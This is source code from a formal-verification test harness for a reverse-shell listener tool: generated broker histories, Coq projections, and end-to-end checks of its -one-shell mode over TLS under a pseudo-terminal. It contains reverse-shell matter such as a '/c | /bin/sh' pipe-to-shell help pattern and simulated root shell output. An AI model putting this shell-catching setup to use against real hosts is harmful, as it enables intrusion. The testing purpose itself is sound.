                 "attempts whose client has already hung up when they reach admission (request context done beforehand) on an idle, half attached "
                 "and fully attached broker, with the right, a wrong and an empty ID: each is still either attached (and then logged) or refused "
                 "with its notice and its single error record; monitor only")
    run.assumptions += ["slog.NewJSONHandler's escaping itself is standard library; the check verifies one parsable object per line and record counts, "
                        "data fields are compared before JSON encoding"]
    run.trusted += ["harness/overlay/iobroker", "props/brokerlib.py", "coq/Model/Broker.v tied by this correspondence"]


def replay(run, path):
    return B.replay(run, path, 11)
