"""Shared machinery for the broker properties (C01 C02 C03 C04 C06 C11)."""
import itertools, json, os
import vlib

IMPORTS = "From CRS Require Import Lib.Bytes Model.Broker Judge.Common Judge.Broker."
IDS = [b"a", b"A", b"ab", b"b", b"kittens", b"a\x00", b"", b"\xc3\xa9", b"a" * 300, b"id with space", b"%s%d", b"a/b"]
WK = ["plain", "flusher", "flusherr", "both"]
ERRS = ["eof", "ueof", "closedpipe", "other"]
CLAUSE_TXT = {10: "operator-channel observations differ (model vs implementation)", 11: "log records differ", 12: "events differ",
              13: "writer calls differ", 14: "attached/returned streams differ", 15: "Do-returned flag differs", 16: "trace lengths differ"}


class Sim:
    """Light mirror of the admission bookkeeping, used ONLY to bias generation towards valid, interesting operations."""

    def __init__(self):
        self.key = None; self.slot = {"in": None, "out": None}; self.st = {}; self.nomore = False; self.queue = 0; self.n = 0
        self.ichclosed = False

    def new(self, d, key, parked=False, req=None):
        self.n += 1
        self.st[self.n] = {"d": d, "key": key, "ph": "parked" if parked else "new", "req": req}
        return self.n

    def admit(self, s):
        x = self.st[s]
        if self.nomore or x["key"] in (b"", ("u", b"")) or (self.key is None and (self.slot["in"] or self.slot["out"])) \
                or self.slot[x["d"]] or (self.key is not None and self.key != x["key"]):
            x["ph"] = "done"; return False
        self.slot[x["d"]] = s; self.key = x["key"]; x["ph"] = "att"
        if x["d"] == "in" and self.ichclosed:
            x["ph"] = "ended"
        return True

    def end(self, s):
        if self.st[s]["ph"] == "att":
            self.st[s]["ph"] = "ended"

    def release(self, s):
        x = self.st[s]
        if x["ph"] != "ended":
            return
        x["ph"] = "done"; self.key = None; self.slot[x["d"]] = None
        o = "out" if x["d"] == "in" else "in"
        if self.slot[o]:
            self.end(self.slot[o])

    def ids(self, ph, d=None):
        return [s for s, x in self.st.items() if x["ph"] == ph and (d is None or x["d"] == d)]


def K(b):
    return b.hex()


def gen_history(rng, length, flavour="mixed"):
    """Random history biased to stay near full attachment and inside tear-down windows."""
    sim, ops = Sim(), []
    fam = rng.sample(IDS, 3)
    for _ in range(length):
        att_in, att_out = sim.ids("att", "in"), sim.ids("att", "out")
        ended, parked = sim.ids("ended"), sim.ids("parked")
        r = rng.randrange(100)
        if parked and r < 35:
            s = rng.choice(parked); sim.admit(s); ops.append({"op": "go", "s": s})
        elif r < 30 or (not att_in and not att_out and not ended and r < 70):
            if flavour != "uni" and rng.randrange(4) == 0:
                si = sim.new("in", ("b", sim.n + 1), True); so = sim.new("out", ("b", si), True)
                sim.st[si]["key"] = sim.st[so]["key"] = ("b", si)
                ops.append({"op": "ioreq", "si": si, "so": so, "wk": rng.choice(WK), "wfail": rng.choice([-1, -1, -1, 0, 1, 2]),
                            "ffail": rng.choice([-1, -1, -1, 0, 1])})
            else:
                d = rng.choice(["in", "out"])
                key = sim.key[1] if (sim.key and sim.key[0] == "u" and rng.randrange(3)) else rng.choice(fam if rng.randrange(5) else IDS)
                s = sim.new(d, ("u", key)); sim.admit(s)
                ops.append({"op": "admit", "s": s, "d": d, "key": K(key), "wk": rng.choice(WK), "wfail": rng.choice([-1, -1, -1, 0, 1, 3]),
                            "ffail": rng.choice([-1, -1, -1, 0, 2])})
        elif r < 45:
            ops.append({"op": "line", "l": K(rng.choice([b"id", b"", b"echo 'x'", b"multi\nline insert", bytes(rng.randrange(256) for _ in range(rng.randrange(0, 40))), b"x" * 3000]))})
        elif r < 60 and att_out:
            s = rng.choice(att_out)
            e = rng.choice(["", "", "", ""] + ERRS)
            data = rng.choice([b"", b"uid=0(root)\n", b"\x00\xff\x1b[0m", b"partial", bytes(rng.randrange(256) for _ in range(rng.randrange(1, 100))), b"y" * 5000])
            if e:
                sim.end(s)
            ops.append({"op": "data", "s": s, "d": K(data), "err": e})
        elif r < 68 and (att_in or att_out):
            s = rng.choice(att_in + att_out)
            x = sim.st[s]
            mates = [t for t, y in sim.st.items() if x["req"] is None and False] or [s]
            if x["key"][0] == "b":
                mates = [t for t, y in sim.st.items() if y["key"] == x["key"]]
                if any(sim.st[t]["ph"] == "parked" for t in mates):
                    continue
            for t in mates:
                sim.end(t)
            ops.append({"op": "cancel", "s": s})
        elif r < 90 and ended:
            s = rng.choice(ended); sim.release(s); ops.append({"op": "release", "s": s})
        elif r < 92 and not sim.ichclosed and flavour == "mixed" and rng.randrange(6) == 0:
            sim.ichclosed = True
            for s in att_in:
                sim.end(s)
            ops.append({"op": "closeich"})
        elif r < 94 and not sim.nomore and rng.randrange(3) == 0:
            sim.nomore = True; ops.append({"op": "shutdown"})
        else:
            d = rng.choice(["in", "out"])
            s = sim.new(d, ("u", rng.choice(IDS))); sim.admit(s)
            ops.append({"op": "admit", "s": s, "d": d, "key": K(sim.st[s]["key"][1]), "wk": rng.choice(WK), "wfail": -1, "ffail": -1})
    return ops


def small_scope(depth):
    """Every operation list up to [depth] over a small alphabet (two ids, both directions, endings, releases)."""
    alpha = []
    for d in ("in", "out"):
        for key in (b"a", b"b"):
            alpha.append(("admit", d, key))
    alpha += [("end", "in"), ("end", "out"), ("rel", "in"), ("rel", "out"), ("line",), ("shutdown",)]
    out = []
    for n in range(1, depth + 1):
        for combo in itertools.product(alpha, repeat=n):
            sim, ops, ok = Sim(), [], True
            for a in combo:
                if a[0] == "admit":
                    s = sim.new(a[1], ("u", a[2])); sim.admit(s)
                    ops.append({"op": "admit", "s": s, "d": a[1], "key": K(a[2]), "wk": "flusherr", "wfail": -1, "ffail": -1})
                elif a[0] == "end":
                    c = sim.ids("att", a[1])
                    if not c:
                        ok = False; break
                    sim.end(c[0])
                    ops.append({"op": "data", "s": c[0], "d": "", "err": "eof"} if a[1] == "out" else {"op": "cancel", "s": c[0]})
                elif a[0] == "rel":
                    c = sim.ids("ended", a[1])
                    if not c:
                        ok = False; break
                    sim.release(c[0]); ops.append({"op": "release", "s": c[0]})
                elif a[0] == "line":
                    ops.append({"op": "line", "l": K(b"x")})
                else:
                    if sim.nomore:
                        ok = False; break
                    sim.nomore = True; ops.append({"op": "shutdown"})
            if ok:
                out.append(ops)
    return out


def io_orders(n, base):
    """All admission orders of the 2n halves of n /io requests on top of a base state."""
    outs = []
    for perm in itertools.permutations(range(2 * n)):
        ops, sid = [], 0
        pre = {"idle": [], "uni": [("in", b"a"), ("out", b"a")], "half": [("in", b"a")], "teardown": [("in", b"a"), ("out", b"a")]}[base]
        for d, key in pre:
            sid += 1
            ops.append({"op": "admit", "s": sid, "d": d, "key": K(key), "wk": "both", "wfail": -1, "ffail": -1})
        if base == "teardown":
            ops += [{"op": "data", "s": 2, "d": "", "err": "eof"}, {"op": "release", "s": 2}]      # s1 cancelled, parked before its release
        halves = []
        for _ in range(n):
            ops.append({"op": "ioreq", "si": sid + 1, "so": sid + 2, "wk": "both", "wfail": -1, "ffail": -1})
            halves += [sid + 1, sid + 2]; sid += 2
        for k in perm:
            ops.append({"op": "go", "s": halves[k]})
        ops.append({"op": "line", "l": K(b"probe")})
        for h in halves[1::2]:
            ops.append({"op": "data", "s": h, "d": K(b"out%d" % h), "err": ""})
        outs.append(ops)
    return outs


# ------------------------------------------------------------------ projection to Coq ----

def desc_term(o, d, key_term, addr):
    wf = "None" if o.get("wfail", -1) < 0 else "(Some %d)" % o["wfail"]
    ff = "None" if o.get("ffail", -1) < 0 else "(Some %d)" % o["ffail"]
    wk = {"plain": "WPlain", "flusher": "WFlusher", "flusherr": "WFlushErr", "both": "WBoth"}.get(o.get("wk"), "WPlain")
    return "{| sd_dir := %s; sd_key := %s; sd_addr := %d; sd_wk := %s; sd_wfail := %s; sd_ffail := %s |}" % (
        "DIn" if d == "in" else "DOut", key_term, addr, wk, wf, ff)


def op_term(o):
    k = o["op"]
    if k == "admit":
        return "OAdmit %d %s" % (o["s"], desc_term(o, o["d"], "(KUni %s)" % vlib.coq_str(bytes.fromhex(o["key"])), o["s"]))
    if k == "ioreq":
        kt = "(KBi %d)" % o["si"]
        return "OIoReq %d %d %s %s" % (o["si"], o["so"], desc_term(o, "in", kt, o["si"]), desc_term({}, "out", kt, o["si"]))
    if k == "go":
        return "OGo %d" % o["s"]
    if k == "line":
        return "OLine %s" % vlib.coq_str(bytes.fromhex(o["l"]))
    if k == "closeich":
        return "OCloseIch"
    if k == "data":
        e = {"": "None", "eof": "(Some REof)", "ueof": "(Some RUnexpectedEof)", "closedpipe": "(Some RClosedPipe)", "other": "(Some ROther)"}[o.get("err", "")]
        return "OData %d %s %s" % (o["s"], vlib.coq_str(bytes.fromhex(o["d"])), e)
    if k == "cancel":
        return "OCancel %d" % o["s"]
    if k == "release":
        return "ORelease %d" % o["s"]
    if k == "shutdown":
        return "OShutdown"
    if k == "drain":
        return "ODrain %d" % o.get("n", 1)
    if k == "sleep":                     # the model has no clock: time passing changes nothing
        return "ODrain 0"
    if k in ("armw", "relw"):
        return "OWGate %d" % o["s"]
    if k == "cancelline":
        return "ORace %d %s" % (o["s"], vlib.coq_str(bytes.fromhex(o["l"])))
    raise ValueError(k)


def project(case, res):
    """Harness observations -> list of Coq [sobs] terms (+ leaks, stuck)."""
    C = res.get("consts", {})
    io_half = {}
    for o in case["ops"]:
        if o["op"] == "ioreq":
            io_half[o["si"]] = (o["si"], o["so"])
    attached = set()
    terms = []
    steps = [dict(s) for s in (res.get("steps") or []) if not s.get("final")]
    fin0 = [s for s in (res.get("steps") or []) if s.get("final")]
    if case.get("ochcap") and fin0 and steps:
        # stalled terminal: what it receives once everything is wound down counts as seen at the end of the last operation
        steps[-1]["och"] = (steps[-1].get("och") or []) + (fin0[0].get("och") or [])
        for fld in ("ret", "log", "ev"):
            steps[-1][fld] = (steps[-1].get(fld) or []) + (fin0[0].get(fld) or [])
        merged_final = True
    else:
        merged_final = False
    for s in steps:
        att = s.get("att") or []
        now = attached | set(att)
        och = []
        for x in s.get("och") or []:
            if x[0] == "plain":
                och.append("OPlain %s" % vlib.coq_str(bytes.fromhex(x[1])))
                continue
            _, addr, color, kind, dw, text = x
            try:
                base = int(addr[1:])
            except ValueError:
                base = 999999
            who = base
            if addr.startswith("r") and base in io_half and kind == "other":
                who = io_half[base][1] if dw == "out" else io_half[base][0]
            if kind == "ready":
                cls = "NReady"
            elif kind == "gone":
                cls = "NGone"
            elif color == 3:
                cls = "NConnected"
            elif color == 2:
                cls = "NClosed" if who in now else "NRefused"
            else:
                cls = "NRefused"; who = 999998
            och.append("ONote %s %d" % (cls, who))
        logs = []
        for r in s.get("log") or []:
            sid = int(r.get("sid", 999999))
            if r.get(C.get("kdir", "direction")) == C.get("vout", "output") and "sid_out" in r:
                sid = int(r["sid_out"])
            m = r.get("msg")
            if m == C.get("new"):
                c = "LNew"
            elif m == C.get("disc"):
                c = "(LDisc %s)" % ("true" if C.get("kerr", "error") in r else "false")
            elif m == C.get("io"):
                c = "(LIO %s)" % vlib.coq_str(bytes.fromhex(r.get(C.get("kdata", "data"), "")))
            elif m == C.get("keymissing"):
                c = "LKeyMissing"
            elif m == C.get("teardown"):
                c = "LTeardown"
            elif m == C.get("dup"):
                c = "LDup"
            elif m == C.get("badkey"):
                c = "LBadKey"
            else:
                c = "LDup"; sid = 999997
            if not r.get("json", True):         # the real -log handler (JSON, default level) drops this record
                continue
            logs.append("Log %s %d" % (c, sid))
        evs = ["EConn" if e == "connected" else "EDisc" for e in s.get("ev") or []]
        ws = []
        for w in s.get("w") or []:
            sid, kind = w[0], w[1]
            if kind in ("W", "WX"):
                ws.append("%s %d %s" % ("WWrite" if kind == "W" else "WWriteFail", sid, vlib.coq_str(bytes.fromhex(w[2]))))
            else:
                ws.append("%s %d %s" % ("WFlushFail" if kind.endswith("X") else "WFlush", sid, "true" if kind.startswith("FE") else "false"))
        attached = now
        terms.append("{| o_och := [%s]; o_log := [%s]; o_ev := [%s]; o_w := [%s]; o_att := [%s]; o_ret := [%s]; o_do := %s |}" % (
            "; ".join(och), "; ".join(logs), "; ".join(evs), "; ".join(ws), "; ".join(str(a) for a in att),
            "; ".join(str(a) for a in s.get("ret") or []), "true" if s.get("do") else "false"))
    fin = [s for s in (res.get("steps") or []) if s.get("final")]
    leaks = len(fin[0].get("leaks") or []) if fin else 0
    stuck = bool(res.get("bubble_panic")) or not fin or len(steps) != len(case["ops"])
    jn = (fin[0].get("json_lines", 0) - (0 if merged_final else len([r for r in fin[0].get("log") or [] if r.get("json", True)]))) if fin else 0
    return terms, leaks, stuck, bool(fin and fin[0].get("json_ok")), max(jn, 0)


def term(case, res):
    t, leaks, stuck, jok, jn = project(case, res)
    return "mk [%s] [%s] %d %s %s %s %d" % ("; ".join(op_term(o) for o in case["ops"]), "; ".join(t), leaks, "true" if stuck else "false",
                                          "false" if (case.get("ochcap") or case.get("nocorr")) else "true", "true" if jok else "false", jn)


def gone_clients(rng, n):
    """Attempts whose client has already hung up when they reach admission (request context done), in every admission situation:
    idle, half attached (same / other ID, same / other direction), fully attached.  Monitor only ('nocorr'): the model has no
    notion of a request context before admission; what the statement demands of every attempt still holds."""
    out = []
    for k in range(n):
        ops = []
        base = rng.choice(["idle", "half-in", "half-out", "full"])
        if base in ("half-in", "full"):
            ops.append({"op": "admit", "s": 1, "d": "in", "key": K(b"a"), "wk": "plain", "wfail": -1, "ffail": -1})
        if base in ("half-out", "full"):
            ops.append({"op": "admit", "s": 2, "d": "out", "key": K(b"a"), "wk": "plain", "wfail": -1, "ffail": -1})
        sid = 3
        for _ in range(rng.randrange(1, 4)):
            ops.append({"op": "admit", "s": sid, "d": rng.choice(["in", "out"]), "key": K(rng.choice([b"a", b"a", b"b", b""])), "wk": "plain",
                        "wfail": -1, "ffail": -1, "precancel": True})
            ops.append({"op": "release", "s": sid})
            sid += 1
        ops.append({"op": "line", "l": K(b"probe")})
        out.append({"ops": ops, "nocorr": True})
    return out


def build(run):
    ok, binp, log = vlib.build_overlay_test(run.rundir, "internal/iobroker")
    run.checker_cmds.append("go1.26 test -c -tags verif -overlay (harness/overlay/iobroker injected into /repo/internal/iobroker); "
                            "TestVerifBroker runs each operation list on the real Broker inside testing/synctest")
    if not ok:
        run.oblige("harness builds against /repo (tag verif, go1.26 for testing/synctest)", False, log)
        return None
    return binp


def run_stream(run, binp, name, which, histories, clauses, rule, shard=250, judge=None):
    cases = [dict(h, i=k) if isinstance(h, dict) else {"i": k, "ops": h} for k, h in enumerate(histories)]
    res, err = vlib.run_overlay_test(binp, "TestVerifBroker", cases, run.rundir, tag=name)
    if err or res is None or len(res) != len(cases):
        run.oblige("%s: harness ran all histories" % name, False, "%s (got %d of %d)" % (err, len(res or []), len(cases)))
        return
    cl = dict(CLAUSE_TXT); cl.update(clauses)
    nops = {}
    for c in cases:
        for o in c["ops"]:
            nops[o["op"]] = nops.get(o["op"], 0) + 1
    vlib.judge_stream(run, name, IMPORTS, "case", cases, res, term, cl, (0,), rule, judge=judge or ("judge_c%02d" % which), shard=shard,
                      key_fn=lambda c: json.dumps(c["ops"], sort_keys=True),
                      dist_extra={"operations": nops, "history_lengths": {"min": min(len(c["ops"]) for c in cases), "max": max(len(c["ops"]) for c in cases)}})
    if any(c.get("ochcap") for c in cases):
        import queuecorr
        queuecorr.run(run, name, cases, res)


def replay(run, path, which):
    def runner(case):
        binp = build(run)
        c = dict(case["input"], i=0)
        res, err = vlib.run_overlay_test(binp, "TestVerifBroker", [c], run.rundir, tag="replay")
        fl, tags, errors, _ = vlib.coq_eval(run.rundir, "replayj", IMPORTS, "case", [term(c, res[0])], "judge_c%02d" % which)
        txt = "operations:\n" + "\n".join("  %2d %s" % (k, json.dumps(o)) for k, o in enumerate(c["ops"]))
        txt += "\nimplementation, per operation:\n" + "\n".join(
            "  %2d och=%s log=%s ev=%s w=%s att=%s ret=%s do=%s" % (k, s.get("och"), [(r.get("msg"), r.get("sid")) for r in s.get("log") or []],
                                                                    s.get("ev"), s.get("w"), s.get("att"), s.get("ret"), s.get("do"))
            for k, s in enumerate(res[0].get("steps") or []))
        txt += "\njudge: %s %s" % (fl, errors)
        return fl, txt
    return vlib.replay_generic(run, path, runner)
