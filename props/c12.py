"""C12 - -one-shell closes the listener at the first full shell and exits after it."""
import fcntl, json, os, re, select, signal, socket, ssl, struct, termios, time
import vlib

IMPORTS = "From CRS Require Import Lib.Bytes Model.OneShell Judge.Common Judge.C12."
CLAUSES = {1: "the listening socket was open/closed at the wrong time: with -one-shell it must accept connections as long as no shell is fully attached "
              "and refuse them shortly after the ready notice; without the flag it must stay open",
           2: "with -one-shell the callback help was offered again after the shell was gone",
           3: "with -one-shell Server.Do did not end by itself with the expected 'closed after shell received' once the shell had ended",
           4: "the attached shell did not keep working after the listener was closed"}
H = lambda s: (s if isinstance(s, bytes) else s.encode()).hex()
IN = lambda i: H("GET /i/%s HTTP/1.1\r\nHost: h\r\n\r\n" % i)
OUT = lambda i: H("POST /o/%s HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n" % i)
IO = H("POST /io HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n")
CHUNK = lambda s: H("%x\r\n%s\r\n" % (len(s), s))


def scenario(rng, one, kind, pre, listen=None, patient=True):
    """pre: attempts before the real shell (half attached ones that go away, refused ones); kind: how the shell attaches."""
    acts, marks = [], []
    def probe(expect_open, label):
        acts.append({"a": "probe", "until": expect_open, "wait_ms": 0 if expect_open else 3000}); marks.append(("probe", label))
    probe(True, "start")
    for p in pre:
        if p == "half-in":
            acts += [{"a": "open", "id": "h", "req": IN("half"), "quiet_ms": 120}, {"a": "close", "id": "h", "quiet_ms": 200}]; marks += [("x", ""), ("x", "")]
        elif p == "half-out":
            acts += [{"a": "open", "id": "h", "req": OUT("half"), "quiet_ms": 120}, {"a": "close", "id": "h", "quiet_ms": 200}]; marks += [("x", ""), ("x", "")]
        elif p == "refused":
            acts += [{"a": "raw", "req": H("GET /i/ HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n")},
                     {"a": "open", "id": "k", "req": IN("k1"), "quiet_ms": 100}, {"a": "raw", "req": H("GET /o/other HTTP/1.1\r\nHost: h\r\nConnection: close\r\nContent-Length: 0\r\n\r\n")},
                     {"a": "close", "id": "k", "quiet_ms": 200}]; marks += [("x", "")] * 4
        elif p == "fdstorm":
            acts += [{"a": "fdstorm", "spare": 30}]; marks += [("x", "")]
        probe(True, "after " + p)
    if kind == "in-out":
        acts += [{"a": "open", "id": "i", "req": IN("s1"), "quiet_ms": 120}]; marks.append(("x", ""))
        probe(True, "half attached (in)")
        acts += [{"a": "open", "id": "o", "req": OUT("s1"), "quiet_ms": 200}]; marks.append(("ready", ""))
    elif kind == "out-in":
        acts += [{"a": "open", "id": "o", "req": OUT("s1"), "quiet_ms": 120}]; marks.append(("x", ""))
        probe(True, "half attached (out)")
        acts += [{"a": "open", "id": "i", "req": IN("s1"), "quiet_ms": 200}]; marks.append(("ready", ""))
    else:
        acts += [{"a": "open", "id": "o", "req": IO, "quiet_ms": 250}]; marks.append(("ready", ""))
    if one and not patient:
        # ONE connection attempt a second after the ready notice - not a poll: a listener which only goes away once somebody has knocked is still open
        acts.append({"a": "sleep", "ms": 1000}); marks.append(("x", ""))
        acts.append({"a": "probe"}); marks.append(("probe", "one attempt, 1 s after ready"))
    else:
        probe(not one, "after ready")
    # traffic through the shell after the close
    acts += [{"a": "line", "l": H("echo hi"), "quiet_ms": 150}, {"a": "send", "id": "o", "d": CHUNK("OUTPUT-AFTER-CLOSE\n"), "quiet_ms": 200}]
    marks += [("x", ""), ("traffic", "")]
    probe(not one, "during traffic")
    # the shell ends
    acts += [{"a": "send", "id": "o", "d": H("0\r\n\r\n"), "quiet_ms": 300}]; marks.append(("x", ""))
    if kind != "io":
        acts += [{"a": "close", "id": "i", "quiet_ms": 300}]; marks.append(("x", ""))
    acts += [{"a": "close", "id": "o", "quiet_ms": 300}]; marks.append(("gone", ""))
    acts += [{"a": "wait_do", "ms": 2500 if one else 200}]; marks.append(("do", ""))
    probe(not one, "after the shell")
    cfg = {"oneshell": one}
    if listen:
        cfg["listen"] = listen
    return {"cfg": cfg, "acts": acts, "_marks": marks, "_one": one, "_desc": {"one_shell": one, "attach": kind, "before": pre, "listen": listen or "127.0.0.1:0",
                                                                                 "probe_after_ready": "poll" if patient else "single"}}


def make_cases(rng, tier):
    cases = []
    pres = [[], ["half-in"], ["half-out"], ["refused"], ["half-in", "refused", "half-out"]]
    for one in (True, False):
        for kind in ("in-out", "out-in", "io"):
            for pre in (pres if tier != "quick" else ([pres[0], pres[rng.randrange(1, 3)], pres[4]] if one else [pres[1]])):
                cases.append(scenario(rng, one, kind, pre))
    # other listen addresses (IPv6 loopback, a name), and a single connection attempt after the ready notice instead of a poll
    for listen, kind, patient in (("[::1]:0", "io", False), ("[::1]:0", "in-out", True), ("localhost:0", "out-in", False), ("127.0.0.1:0", "io", False)):
        cases.append(scenario(rng, True, kind, [], listen=listen, patient=patient))
    # the process runs out of file descriptors while many silent callers connect (accept fails for a while): the listener is still there afterwards
    cases.append(scenario(rng, True, "io", ["fdstorm"]))
    cases.append(scenario(rng, False, "in-out", ["half-in", "fdstorm"]))
    for k, c in enumerate(cases):
        c["i"] = k
    return cases


def term(c, r):
    ready_seen, probes, help_after, gone_seen, do_ok, traffic = 0, [], False, False, False, False
    consts = r.get("consts", {})
    for (kind, label), a in zip(c["_marks"], r.get("acts") or []):
        lines = [bytes.fromhex(l["line"]).decode(errors="replace") for l in a.get("och") or []]
        plains = [l for l, o in zip(lines, a.get("och") or []) if o.get("plain")]
        if kind == "probe":
            probes.append("(%d, %s)" % (ready_seen, str(bool(a.get("open"))).lower()))
        ready_seen += sum(1 for l in lines if consts.get("ready", "Shell is ready") in l)
        if any(consts.get("gone", "Shell is gone") in l for l in lines):
            gone_seen = True
        if gone_seen and any("To get a shell" in l or consts.get("shellsuffix", "/c | /bin/sh") in l for l in lines):
            help_after = True
        if kind == "traffic" and any("OUTPUT-AFTER-CLOSE" in p for p in plains):
            traffic = True
        if kind == "do":
            do_ok = bool(a.get("do_returned")) and bool(a.get("is_oneshell"))
    # the input half must have received the operator's line
    return "mk %s [%s] %s %s %s" % (str(c["_one"]).lower(), "; ".join(probes), str(help_after).lower(), str(do_ok).lower(), str(traffic).lower())


def e2e_round(binp, d, how, hold_s):
    """The real program with -one-shell under a pty: a /io shell attaches (real TLS), stays attached for hold_s seconds with traffic at the end,
    ends; then the operator enters ONE line; the program must exit by itself with status 0."""
    os.makedirs(d, exist_ok=True)
    argv = [binp, "-one-shell", "-listen-address", "127.0.0.1:0", "-tls-certificate-cache", os.path.join(d, "cert.txtar")]
    if how == "tab":                                   # a Ctrl+I / Tab source of many lines
        with open(os.path.join(d, "many.sh"), "w") as f:
            for k in range(1500):
                f.write("f%d() { :; }\n" % k)
        argv += ["-ctrl-i", os.path.join(d, "many.sh")]
    env = dict(os.environ, HOME=d, XDG_CACHE_HOME=os.path.join(d, "xdg")); env.pop("CURLREVSHELL_LOG", None)
    master, slave = os.openpty()
    fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 40, 200, 0, 0))
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid(); fcntl.ioctl(slave, termios.TIOCSCTTY, 0)
            os.dup2(slave, 0); os.dup2(slave, 1); os.dup2(slave, 2); os.close(master); os.chdir(d)
            os.execvpe(argv[0], argv, env)
        finally:
            os._exit(127)
    out = b""
    def pump(until=None, secs=5.0):
        nonlocal out
        t0 = time.time()
        while time.time() - t0 < secs:
            if until is not None and re.search(until, out):
                return True
            r, _, _ = select.select([master], [], [], 0.05)
            if r:
                try:
                    out += os.read(master, 65536)
                except OSError:
                    return False
        return until is None
    res = {"how": how, "hold_s": hold_s, "rc": None, "attached": False, "worked_at_end": False, "gone_early": False}
    try:
        if not pump(rb"https://127\.0\.0\.1:(\d+)/c", 25):
            res["error"] = "no listening address seen"; raise RuntimeError
        port = int(re.search(rb"https://127\.0\.0\.1:(\d+)/c", out).group(1))
        ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
        c = ctx.wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=5))
        cin = None
        if how == "input-first":                       # two unidirectional streams; the input side will go first, the upload stays open
            cin = ctx.wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=5))
            cin.sendall(b"GET /i/e2e HTTP/1.1\r\nHost: h\r\n\r\n")
            pump(rb"Input connected", 15)
            c.sendall(b"POST /o/e2e HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n")
        else:
            c.sendall(b"POST /io HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n")
        res["attached"] = pump(rb"ready to go", 20)
        mark = len(out)
        if how == "muted":                             # the operator mutes the shell's output, and the shell prints something meanwhile
            os.write(master, b"\x0f"); pump(rb"Muting until", 10)
            c.sendall(b"12\r\nWHILE-MUTED-OUT!!\n\r\n"); pump(None, 0.2)
        t_end = time.time() + hold_s
        while time.time() < t_end:
            pump(None, min(1.0, max(0.0, t_end - time.time())))
        res["gone_early"] = b"Shell is gone" in out[mark:]
        try:
            if how in ("muted", "instant"):            # (muted: nothing is displayed; instant: the shell ends the moment it is attached)
                res["worked_at_end"] = True
            else:
                c.sendall(b"15\r\nSTILL-ALIVE-OUTPUT!!\n\r\n")
                res["worked_at_end"] = pump(rb"STILL-ALIVE-OUTPUT!!", 15)
            if how == "quick-line":
                c.sendall(b"0\r\n\r\n"); c.close()
            elif how == "input-first":
                cin.close()                            # (c, the upload, is left open: something still holds the shell's stdout)
            else:
                if how in ("eof", "tab", "muted", "instant"):
                    c.sendall(b"0\r\n\r\n")
                c.close()
        except OSError as ex:                         # the server has torn the attached shell down
            res["send_error"] = repr(ex)
        # net/http's Shutdown notices that the shell's connection has ended by polling (interval grows to 500 ms while the shell lives):
        # a line entered inside that window is the subject of known finding one-shell-line-within-shutdown-poll ("quick" rounds below)
        pump(None, 0.03 if how == "quick-line" else 1.2)
        if how == "tab":
            os.write(master, b"\t"); pump(None, 0.4)  # Tab: insert the source (nobody is there to take it any more)
        os.write(master, b"\r")                      # the operator's next entered line
        def wait_exit(secs):
            nonlocal pid
            t0 = time.time()
            while time.time() - t0 < secs:
                pump(None, 0.1)
                p, st = os.waitpid(pid, os.WNOHANG)
                if p:
                    res["rc"] = os.waitstatus_to_exitcode(st); pid = 0
                    return True
            return False
        if how == "quick-line":
            if not wait_exit(1.5):
                res["first_line_did_not_exit"] = True
                os.write(master, b"\r")               # a second line: now it must
                wait_exit(6)
        else:
            wait_exit(6)
    except RuntimeError:
        pass
    except Exception as ex:
        res["error"] = repr(ex)
    if pid:
        os.kill(pid, signal.SIGKILL); os.waitpid(pid, 0); res["rc"] = 999 if res["rc"] is None else res["rc"]
    os.close(master); os.close(slave)
    res["output_tail"] = out[-500:].decode(errors="replace")
    return res


def e2e_stream(run):
    binp = os.path.join(run.rundir, "curlrevshell")
    rc, o, e = vlib.sh(["go", "build", "-o", binp, "."], cwd=vlib.REPO, env=vlib.GOENV, timeout=600)
    run.checker_cmds.append("go build -o curlrevshell /repo ; the real binary with -one-shell under a fresh pty, a real TLS /io client, one entered line")
    if rc != 0:
        run.oblige("the program builds", False, (o + e).decode(errors="replace")[-2000:])
        return
    # one long-lived shell (longer than any plausible 'grace period' for closing the listener) and a batch of short ones
    long_hold = 33 if run.tier == "quick" else 95
    plan = [(["eof", "drop", "input-first", "tab"][k % 4], 0.3) for k in range(12 if run.tier == "quick" else 60)] + [("eof", long_hold)]
    plan += [("instant", 0.0), ("instant", 0.0), ("muted", 0.3), ("muted", 0.3)]
    plan += [("quick-line", 4.0)] * (3 if run.tier == "quick" else 8)
    import concurrent.futures as cf
    with cf.ThreadPoolExecutor(max_workers=12) as ex:
        rs = list(ex.map(lambda kp: e2e_round(binp, os.path.join(run.rundir, "e2e%d" % kp[0]), *kp[1]), list(enumerate(plan))))
    bad = []
    for r in rs:
        why = None
        if r.get("error") or not r["attached"]:
            why = ("harness", "the scenario could not be set up: %s" % (r.get("error") or "shell did not attach"))
        elif r["gone_early"] or not r["worked_at_end"]:
            why = ("one-shell-shell-disturbed", "with -one-shell the attached shell did not keep working undisturbed for %s s after the listener closed" % r["hold_s"])
        elif r.get("first_line_did_not_exit") and r["rc"] == 0:
            why = ("one-shell-line-within-shutdown-poll", "a line entered 30 ms after a shell that had lived for 4 s ended was consumed without the program "
                   "exiting (the next line did end it)")
        elif r["rc"] != 0:
            why = ("one-shell-no-exit", "after the one shell ended the program did not exit with success at the operator's next entered line (status %s; 999 = had to be killed)" % r["rc"])
        if why:
            bad.append((why, r))
    def verdict(r):
        if r.get("error") or not r["attached"]:
            return ("harness", "the scenario could not be set up: %s" % (r.get("error") or "shell did not attach"))
        if r["gone_early"] or not r["worked_at_end"]:
            return ("one-shell-shell-disturbed", "with -one-shell the attached shell did not keep working undisturbed for %s s after the listener closed" % r["hold_s"])
        if r.get("first_line_did_not_exit") and r["rc"] == 0:
            return ("one-shell-line-within-shutdown-poll", "a line entered 30 ms after a shell that had lived for 4 s ended was consumed without the program "
                    "exiting (the next line did end it)")
        if r["rc"] != 0:
            return ("one-shell-no-exit", "after the one shell ended the program did not exit with success at the operator's next entered line (status %s; 999 = had to be killed)" % r["rc"])
        return None
